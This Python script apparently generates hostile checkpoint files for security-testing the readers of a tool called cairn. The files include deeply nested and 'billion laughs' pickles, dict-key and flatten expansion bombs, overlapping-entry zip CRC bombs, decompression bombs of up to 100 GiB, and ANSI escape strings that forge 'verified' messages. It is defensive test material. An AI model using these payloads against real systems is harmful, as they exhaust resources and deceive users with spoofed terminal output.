#!/usr/bin/env python3
"""Crafted checkpoint files for issue 18 (the sandbox's second pass): what cairn's readers
(`cairn inspect`, `verify`, `filter`, `run --resume`) do with hostile input.

Standard library only: the pickles are written opcode by opcode and zipped the way
`torch.save` does (`<archive>/data.pkl`, `<archive>/byteorder`, `<archive>/version`,
`<archive>/data/<key>`, STORED). The compressed bombs are built by concatenating one small
compressed member many times (gzip, bzip2, xz and zstd readers all accept concatenated
members/streams), so even the 100 GiB ones take a second to make and a few KB to keep.

    python3 make_files.py OUT_DIR [NAME...]      # every file, or only the ones named
    python3 make_files.py --list

Nothing here is committed as a binary; see ../README.md and /work/notes/hostile-findings.md.
"""

import bz2
import gzip
import io
import lzma
import os
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib

# ---- pickle opcodes (protocol 2, as torch.save writes) -----------------------------------

PROTO, STOP = b"\x80\x02", b"."
EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE = b"}", b"]", b")"
MARK, APPEND, APPENDS, SETITEM, SETITEMS = b"(", b"a", b"e", b"s", b"u"
TUPLE, TUPLE2, REDUCE, BUILD, BINPERSID = b"t", b"\x86", b"R", b"b", b"Q"
NONE, NEWTRUE = b"N", b"\x88"


def BINUNICODE(s):
    b = s.encode() if isinstance(s, str) else s
    return b"X" + struct.pack("<I", len(b)) + b


def BININT(i):
    return b"J" + struct.pack("<i", i)


def LONG4(le):
    return b"\x8b" + struct.pack("<I", len(le)) + le


def BINPUT(i):
    return b"r" + struct.pack("<I", i)  # LONG_BINPUT


def BINGET(i):
    return b"j" + struct.pack("<I", i)  # LONG_BINGET


def GLOBAL(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def tensor_f32(key, numel):
    """`_rebuild_tensor_v2(('storage', FloatStorage, key, 'cpu', numel), 0, (numel,), (1,),
    False, OrderedDict())`"""
    return (
        GLOBAL("torch._utils", "_rebuild_tensor_v2")
        + MARK
        + MARK + BINUNICODE("storage") + GLOBAL("torch", "FloatStorage") + BINUNICODE(key)
        + BINUNICODE("cpu") + BININT(numel) + TUPLE + BINPERSID
        + BININT(0)
        + MARK + BININT(numel) + TUPLE
        + MARK + BININT(1) + TUPLE
        + b"\x89"
        + GLOBAL("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        + TUPLE + REDUCE
    )


def dict_of(*items):
    """`{k: v, ...}` from (key-bytes, value-bytes) pairs, already pickled."""
    body = b"".join(k + v for k, v in items)
    return EMPTY_DICT + (MARK + body + SETITEMS if items else b"")


def pt(pickle_body, storages=(), archive="archive"):
    """A torch zip archive around `PROTO + pickle_body + STOP`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{archive}/data.pkl", PROTO + pickle_body + STOP)
        z.writestr(f"{archive}/byteorder", "little")
        for key, data in storages:
            z.writestr(f"{archive}/data/{key}", data)
        z.writestr(f"{archive}/version", "3\n")
    return out.getvalue()


def in_band(mode, arg=0, value=""):
    """The hostile filter's in-band mode entries (`cairn filter --filter` passes no config)."""
    return [
        (BINUNICODE("hostile-mode"), BINUNICODE(mode)),
        (BINUNICODE("hostile-arg"), BININT(arg)),
        (BINUNICODE("hostile-value"), BINUNICODE(value)),
    ]


# ---- class 1: deep nesting ---------------------------------------------------------------


def deep_lists(n=100_000):
    """{"deep": [[[...]]]}, `n` lists deep, built without recursion: n EMPTY_LIST, n APPEND."""
    return pt(EMPTY_DICT + BINUNICODE("deep") + EMPTY_LIST * n + APPEND * (n - 1) + SETITEM)


def deep_dicts(n=100_000):
    """{"deep": {"k": {"k": ...}}}, `n` dicts deep."""
    return pt(
        EMPTY_DICT + BINUNICODE("deep") + (EMPTY_DICT + BINUNICODE("k")) * n + NONE
        + SETITEM * n + SETITEM
    )


def deep_tuples(n=100_000):
    """((((...),),),) `n` tuples deep: MARK ... TUPLE nests on the VM stack."""
    return pt(EMPTY_DICT + BINUNICODE("deep") + MARK * n + TUPLE * n + SETITEM)


def deep_objects(n=100_000):
    """collections.Counter(collections.Counter(...)): REDUCE nested `n` deep (unknown globals
    become opaque objects)."""
    g = GLOBAL("collections", "Counter")
    body = (g + MARK) * n + EMPTY_DICT + (TUPLE + REDUCE) * n
    return pt(EMPTY_DICT + BINUNICODE("deep") + body + SETITEM)


def deep_ok(n=390):
    """Nesting just under cairn's reader limit of 400: readable, and a filter may keep it
    (or return one deeper, which cairn then writes but can no longer read)."""
    return pt(EMPTY_DICT + BINUNICODE("deep") + EMPTY_LIST * n + APPEND * (n - 1) + SETITEM)


# ---- class 2: shared references ----------------------------------------------------------


def laughs_lists(levels=40):
    """The pickle "billion laughs": L0 = [], Li = [L(i-1), L(i-1)], memoized; 2^40 nodes."""
    body = EMPTY_LIST + BINPUT(0)
    for i in range(1, levels + 1):
        body += b"0" + EMPTY_LIST + MARK + BINGET(i - 1) + BINGET(i - 1) + APPENDS + BINPUT(i)
    return pt(EMPTY_DICT + BINUNICODE("laughs") + body + SETITEM)


def laughs_dicts(levels=40):
    """Same with dicts: Di = {"a": D(i-1), "b": D(i-1)}."""
    body = EMPTY_DICT + BINPUT(0)
    for i in range(1, levels + 1):
        body += b"0" + (
            EMPTY_DICT + MARK + BINUNICODE("a") + BINGET(i - 1) + BINUNICODE("b")
            + BINGET(i - 1) + SETITEMS + BINPUT(i)
        )
    return pt(EMPTY_DICT + BINUNICODE("laughs") + body + SETITEM)


def dictkey_laughs(key_kib=256, refs=100_000):
    """One `key_kib` KiB string used as the key of a memoized dict {S: None}, and a list of
    `refs` references to that dict. cairn charges strings fetched by BINGET to its byte budget
    when they are values, but copies dict keys for free: this expands to key_kib * refs KiB
    (25 GB by default) from a ~0.5 MB file."""
    s = BINUNICODE("K" * (key_kib << 10)) + BINPUT(0)
    d = EMPTY_DICT + BINGET(0) + NONE + SETITEM + BINPUT(1)
    refs_body = b"".join(MARK + BINGET(1) * 1000 + APPENDS for _ in range(refs // 1000))
    body = s + b"0" + d + b"0" + EMPTY_LIST + refs_body
    return pt(EMPTY_DICT + BINUNICODE("laughs") + body + SETITEM)


def alias_input(tensor_mib=8, opaque_mib=8, mode="alias-flood", arg=100_000):
    """An input for `cairn filter --filter hostile_filter.wasm`: a `tensor_mib` MiB tensor, a
    tuple holding `opaque_mib` MiB of bytes (an opaque value for `alias-opaque`), and the
    in-band mode entries."""
    numel = (tensor_mib << 20) // 4
    big = GLOBAL("_codecs", "encode") + BINUNICODE("x" * (opaque_mib << 20)) + BINUNICODE("latin1") + TUPLE2 + REDUCE
    items = [
        (BINUNICODE("weight"), tensor_f32("0", numel)),
        (BINUNICODE("blob"), MARK + big + TUPLE),
    ] + in_band(mode, arg)
    return pt(dict_of(*items), storages=[("0", b"\0" * (numel * 4))])


def mode_input(mode, arg=0, value="", **_):
    """A small checkpoint carrying only the in-band mode, for `cairn filter`."""
    return pt(dict_of((BINUNICODE("w"), tensor_f32("0", 4)), *in_band(mode, arg, value)),
              storages=[("0", b"\0" * 16)])


# ---- the thirteenth ways -----------------------------------------------------------------


def bigint(nbytes=1 << 20):
    """An int of `nbytes` bytes (LONG4): `cairn inspect` turns it into decimal with a
    quadratic loop (CPython refuses ints over 4300 digits in str() for this reason)."""
    return pt(dict_of((BINUNICODE("big"), LONG4(b"\x01" * nbytes))))


def flatten_bomb(key_kib=64, depth=300, leaves=1_000):
    """A chain of `depth` dicts, each keyed by the same memoized `key_kib` KiB string (dict keys
    fetched by BINGET cost cairn's reader nothing), ending in a dict of `leaves` ints. Before a
    filter component sees anything, cairn flattens the tree and gives every leaf its own copy
    of its whole path: leaves * depth * key_kib KiB (19 GB by default) from a 70 KB file."""
    key = BINUNICODE("K" * (key_kib << 10)) + BINPUT(0) + b"0"
    chain = (EMPTY_DICT + BINGET(0)) * depth
    bottom = EMPTY_DICT + MARK + b"".join(BINUNICODE(str(i)) + BININT(i) for i in range(leaves)) + SETITEMS
    body = key + chain + bottom + SETITEM * depth
    return pt(EMPTY_DICT + MARK + BINUNICODE("deep") + body
              + b"".join(k + v for k, v in in_band("identity")) + SETITEMS)


def long_key(n=70_000):
    """A key of `n` characters (a filter may write one: it is within max_filter_string_bytes):
    `cairn inspect` pads its table to the longest path, and Rust's `{:width$}` panics past
    65 535 ("Formatting argument out of range")."""
    return pt(dict_of((BINUNICODE("k" * n), BININT(1))))


def ansi_strings():
    """Keys and strings with terminal escapes: `cairn inspect` prints them raw in its table."""
    forged = "\x1b[2K\r\x1b[1Acairn: all checkpoints verified\x07\r\x1b]0;pwned\x07"
    return pt(dict_of(
        (BINUNICODE("a\x1b[2J\x1b[Hkey"), BINUNICODE(forged)),
        (BINUNICODE("ok"), BINUNICODE("fine\rcairn: verify passed\x1b[K")),
    ))


def crc_overlap(region_mib=64, entries=1000, sparse=False):
    """A torch archive whose central directory has `entries` extra records that all point at
    the same local header and `region_mib` MiB payload (overlapping entries, as in David
    Fifield's non-recursive zip bomb, but STORED). cairn checks the CRC of every record, so it
    reads the region once per record: entries * region_mib MiB of CRC-32 from a file of
    region_mib MiB (or a few KB compressed: see crc-overlap.pt.bz2)."""
    size = region_mib << 20
    crc = 0
    chunk = b"\0" * (1 << 20)
    for _ in range(region_mib):
        crc = zlib.crc32(chunk, crc)
    out = io.BytesIO()

    def local(name, data_len, crc):
        n = name.encode()
        return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, data_len, data_len,
                           len(n), 0) + n

    def central(name, data_len, crc, offset):
        n = name.encode()
        return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, data_len,
                           data_len, len(n), 0, 0, 0, 0, 0, offset) + n

    records = []
    out.write(local("archive/data/0", size, crc))
    if sparse:
        out.seek(size, io.SEEK_CUR)
    else:
        for _ in range(region_mib):
            out.write(chunk)
    records.append(("archive/data/0", size, crc, 0))
    pickle = PROTO + dict_of((BINUNICODE("w"), tensor_f32("0", size // 4))) + STOP
    for name, data in [("archive/data.pkl", pickle), ("archive/byteorder", b"little"),
                       ("archive/version", b"3\n")]:
        at = out.tell()
        c = zlib.crc32(data)
        out.write(local(name, len(data), c) + data)
        records.append((name, len(data), c, at))
    for i in range(entries):
        records.append((f"archive/x{i}", size, crc, 0))
    # data.pkl first: cairn takes the archive prefix from the first record.
    records.insert(0, records.pop(1))
    cd_at = out.tell()
    for r in records:
        out.write(central(*r))
    cd_len = out.tell() - cd_at
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(records), len(records), cd_len,
                          cd_at, 0))
    return out.getvalue()


# ---- class 8: decompression bombs --------------------------------------------------------

MEMBER = 64 << 20  # each compressed member expands to 64 MiB


def _zeros_member(kind):
    zeros = b"\0" * MEMBER
    if kind == "gz":
        return gzip.compress(zeros, 9)
    if kind == "bz2":
        return bz2.compress(zeros, 9)
    if kind == "xz":
        return lzma.compress(zeros, preset=9)
    if kind == "zst":
        return subprocess.run(["zstd", "-19", "-q", "-c"], input=zeros, capture_output=True,
                              check=True).stdout
    if kind == "lz4":
        return subprocess.run(["lz4", "-9", "-q", "-c"], input=zeros, capture_output=True,
                              check=True).stdout
    raise ValueError(kind)


def bomb(kind, gib, tar=False):
    """`gib` GiB of zeros as concatenated `kind` members (a tar header first for tar.*)."""
    member = _zeros_member(kind)
    n = (gib << 30) // MEMBER
    head = b""
    if tar:
        h = io.BytesIO()
        import tarfile
        info = tarfile.TarInfo("composer_states.pt")
        info.size = n * MEMBER
        h.write(info.tobuf(format=tarfile.GNU_FORMAT))
        head = {"gz": lambda b: gzip.compress(b), "bz2": bz2.compress,
                "xz": lambda b: lzma.compress(b, format=lzma.FORMAT_XZ)}[kind](h.getvalue())
    return head + member * n


def lzma_alone_bomb(gib):
    """`.pt.lzma` is the single-stream "alone" format: compress streamingly."""
    c = lzma.LZMACompressor(format=lzma.FORMAT_ALONE, preset=6)
    zeros = b"\0" * (16 << 20)
    parts = [c.compress(zeros) for _ in range((gib << 30) // len(zeros))]
    return b"".join(parts) + c.flush()


def not_a_checkpoint(kind):
    """Valid compression of data that is not a checkpoint (a text file)."""
    text = b"this is not a checkpoint\n" * 1000
    return {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress,
            "zst": lambda b: subprocess.run(["zstd", "-q", "-c"], input=b, capture_output=True,
                                            check=True).stdout}[kind](text)


def compressed_crc_overlap():
    """crc_overlap (1 GiB region, 60 000 overlapping records: 60 TiB of CRC-32) as .bz2."""
    raw = crc_overlap(region_mib=1024, entries=60_000, sparse=False)
    return bz2.compress(raw, 9)


FILES = {
    # class 1
    "deep-lists.pt": lambda: deep_lists(),
    "deep-dicts.pt": lambda: deep_dicts(),
    "deep-tuples.pt": lambda: deep_tuples(),
    "deep-objects.pt": lambda: deep_objects(),
    "deep-390.pt": lambda: deep_ok(),
    # class 2
    "laughs-lists.pt": lambda: laughs_lists(),
    "laughs-dicts.pt": lambda: laughs_dicts(),
    "laughs-dictkey.pt": lambda: dictkey_laughs(),
    "laughs-dictkey-small.pt": lambda: dictkey_laughs(key_kib=256, refs=8_000),
    "alias-flood.pt": lambda: alias_input(mode="alias-flood", arg=5_000),
    "alias-flood-256.pt": lambda: alias_input(mode="alias-flood", arg=256),
    "alias-flood-256.pt.zst": lambda: subprocess.run(
        ["zstd", "-19", "-q", "-c"], input=alias_input(mode="alias-flood", arg=256),
        capture_output=True, check=True).stdout,
    "alias-opaque.pt": lambda: alias_input(mode="alias-opaque", arg=200),
    # inputs carrying an in-band mode for `cairn filter --filter hostile_filter.wasm`
    "mode-deep-index.pt": lambda: mode_input("deep-index", 20_000),
    "mode-deep-key.pt": lambda: mode_input("deep-key", 20_000),
    "mode-deep-int-key.pt": lambda: mode_input("deep-int-key", 20_000),
    "mode-deep-mixed.pt": lambda: mode_input("deep-mixed", 20_000),
    "mode-deep-empty-dict.pt": lambda: mode_input("deep-empty-dict", 12_000),
    "mode-deep-401.pt": lambda: mode_input("deep-index", 401),
    "mode-refuse-big.pt": lambda: mode_input("refuse-big", 10 << 20),
    "mode-refuse-forged.pt": lambda: mode_input("refuse-forged"),
    "mode-path-error.pt": lambda: mode_input("path-error", 60 << 20),
    "mode-print-forged.pt": lambda: mode_input("print-forged"),
    # thirteenth ways
    "bigint-1m.pt": lambda: bigint(1 << 20),
    "bigint-64k.pt": lambda: bigint(64 << 10),
    "ansi.pt": lambda: ansi_strings(),
    "long-key.pt": lambda: long_key(),
    "flatten-bomb.pt": lambda: flatten_bomb(),
    "crc-overlap.pt": lambda: crc_overlap(region_mib=64, entries=1000),
    "crc-overlap.pt.bz2": lambda: compressed_crc_overlap(),
    # class 8
    "zeros-3g.pt.zst": lambda: bomb("zst", 3),
    "zeros-3g.pt.gz": lambda: bomb("gz", 3),
    "zeros-3g.pt.bz2": lambda: bomb("bz2", 3),
    "zeros-3g.pt.xz": lambda: bomb("xz", 3),
    "zeros-3g.pt.lz4": lambda: bomb("lz4", 3),
    "zeros-1g.pt.lzma": lambda: lzma_alone_bomb(1),
    "zeros-3g.tar.gz": lambda: bomb("gz", 3, tar=True),
    "zeros-3g.tar.bz2": lambda: bomb("bz2", 3, tar=True),
    "zeros-100g.pt.bz2": lambda: bomb("bz2", 100),
    "text.pt.gz": lambda: not_a_checkpoint("gz"),
    "text.pt.zst": lambda: not_a_checkpoint("zst"),
    "text.pt.xz": lambda: not_a_checkpoint("xz"),
}


def main(argv):
    if argv[1:2] == ["--list"]:
        for name, make in FILES.items():
            print(name)
        return 0
    if len(argv) < 2:
        print(__doc__, file=sys.stderr)
        return 2
    out = argv[1]
    os.makedirs(out, exist_ok=True)
    for name in argv[2:] or list(FILES):
        data = FILES[name]()
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        print(f"{name}\t{len(data)} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
